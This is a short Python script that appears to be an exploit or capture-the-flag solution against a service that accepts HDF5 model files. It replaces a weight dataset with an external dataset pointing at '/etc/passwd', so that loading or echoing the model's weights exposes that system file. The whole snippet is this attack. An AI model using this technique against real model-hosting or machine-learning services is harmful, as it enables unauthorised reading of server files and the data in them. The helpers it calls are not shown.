def change(file):
    shape, dtype = file[KERNEL].shape, file[KERNEL].dtype
    del file[KERNEL]
    size = int(shape[0]) * int(shape[1]) * dtype.itemsize
    file.create_dataset(KERNEL, shape, dtype, external=[("/etc/passwd", 0, size)])


def build_model():
    return handing_in(reweighted(change))
